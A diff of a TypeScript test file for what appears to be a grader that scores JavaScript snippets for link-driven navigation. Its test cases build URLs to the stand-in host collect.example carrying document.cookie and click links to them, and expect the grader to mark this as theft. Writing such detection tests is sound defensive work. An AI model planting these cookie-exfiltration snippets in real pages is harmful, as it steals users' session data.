@@ -10,7 +10,6 @@ const LEADS: readonly (readonly [what: string, program: string])[] = [
   ['a link', "const a = document.createElement('a'); a.href = U; document.body.append(a); a.click();"],
   ['an attribute of a link', "const a = document.createElement('a'); a.setAttribute('href', U); a.click();"],
   ['a link of several properties', "const a = Object.assign(document.createElement('a'), { href: U }); a.click();"],
-  ['a link of the page', "const a = document.querySelector('a'); a.href = U; a.click();"],
   [
     'a link in a field',
     "class Go { to(u) { this.a = document.createElement('a'); this.a.href = u; this.a.dispatchEvent(new MouseEvent('click')); } } new Go().to(U);",
@@ -49,6 +48,14 @@ describe('a page is led by', () => {
     const taking = (data: string): string => `const U = 'https://collect.example/?a=' + ${data}; ${program}`;
     expect(await graded({ content: taking('document.cookie') })).toMatch(/^[CDF]$/);
     expect(await graded({ content: taking('version') })).toMatch(/^A/);
+  });
+  it('a link of the page, wherever that is led by the author', async () => {
+    const program = "const a = document.querySelector('a'); a.href = U; a.click();";
+    expect(await graded({ content: ordered(`const U = R.url; ${program}`) })).toMatch(/^[DF]$/);
+    for (const data of ['document.cookie', 'version'])
+      expect(await graded({ content: `const U = 'https://collect.example/?a=' + ${data}; ${program}` })).toMatch(
+        /^[DF]$/,
+      );
   });
   it('another host behind a slash', async () => {
     expect(await graded({ content: ordered("location.href = '/' + R.path;") })).toMatch(/^[DF]$/);
